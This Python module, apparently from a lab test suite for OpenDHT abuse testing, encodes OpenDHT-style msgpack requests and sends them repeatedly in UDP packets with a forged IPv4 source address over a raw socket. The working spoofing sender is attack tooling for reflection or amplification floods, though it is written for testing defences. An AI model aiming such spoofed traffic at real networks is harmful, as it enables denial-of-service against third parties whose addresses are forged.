"""Spoofed UDP for abuse tests: a tiny msgpack encoder for OpenDHT-shaped requests, and a
sender that forges the IPv4 source address (raw socket, IP_HDRINCL). Run inside a lab
namespace only: `python3 -m lab.spoof SRC_IP SRC_PORT DST_IP DST_PORT COUNT INTERVAL HEX`.
"""

import socket
import struct
import sys
import time


def mp(obj) -> bytes:
    """msgpack for the few types OpenDHT messages use (dict, str, bytes, int >= 0, list)."""
    if isinstance(obj, dict):
        n = len(obj)
        out = bytes([0x80 | n]) if n < 16 else b"\xde" + struct.pack(">H", n)
        for k, v in obj.items():
            out += mp(k) + mp(v)
        return out
    if isinstance(obj, str):
        b = obj.encode()
        return (bytes([0xa0 | len(b)]) if len(b) < 32 else b"\xd9" + bytes([len(b)])) + b
    if isinstance(obj, (bytes, bytearray)):
        return b"\xc4" + bytes([len(obj)]) + bytes(obj)
    if isinstance(obj, list):
        return bytes([0x90 | len(obj)]) + b"".join(mp(x) for x in obj)
    if isinstance(obj, bool):
        return b"\xc3" if obj else b"\xc2"
    if isinstance(obj, int) and obj >= 0:
        if obj < 128:
            return bytes([obj])
        return b"\xce" + struct.pack(">I", obj) if obj < 2**32 else b"\xcf" + struct.pack(">Q", obj)
    raise TypeError(type(obj))


def dht_request(query: str, args: dict, tid: int, netid: int) -> bytes:
    return mp({"a": args, "q": query, "t": tid, "y": "q", "v": "RNG1", "n": netid})


def _checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack(f"!{len(data) // 2}H", data))
    s = (s >> 16) + (s & 0xffff)
    s += s >> 16
    return ~s & 0xffff


def forge(src_ip: str, src_port: int, dst_ip: str, dst_port: int, payload: bytes) -> bytes:
    udp_len = 8 + len(payload)
    src, dst = socket.inet_aton(src_ip), socket.inet_aton(dst_ip)
    pseudo = src + dst + struct.pack("!BBH", 0, socket.IPPROTO_UDP, udp_len)
    udp = struct.pack("!HHHH", src_port, dst_port, udp_len, 0) + payload
    csum = _checksum(pseudo + udp) or 0xffff
    udp = udp[:6] + struct.pack("!H", csum) + udp[8:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + udp_len, 0, 0, 64, socket.IPPROTO_UDP, 0, src, dst)
    ip = ip[:10] + struct.pack("!H", _checksum(ip)) + ip[12:]
    return ip + udp


def send_spoofed(src_ip, src_port, dst_ip, dst_port, payload, count, interval):
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    pkt = forge(src_ip, src_port, dst_ip, dst_port, payload)
    for _ in range(count):
        s.sendto(pkt, (dst_ip, 0))
        time.sleep(interval)
    s.close()
    return count * len(payload)  # UDP payload bytes, what the budget of RFC 9000 §8 counts


if __name__ == "__main__":
    a = sys.argv[1:]
    n = send_spoofed(a[0], int(a[1]), a[2], int(a[3]), bytes.fromhex(a[6]), int(a[4]), float(a[5]))
    print(n)
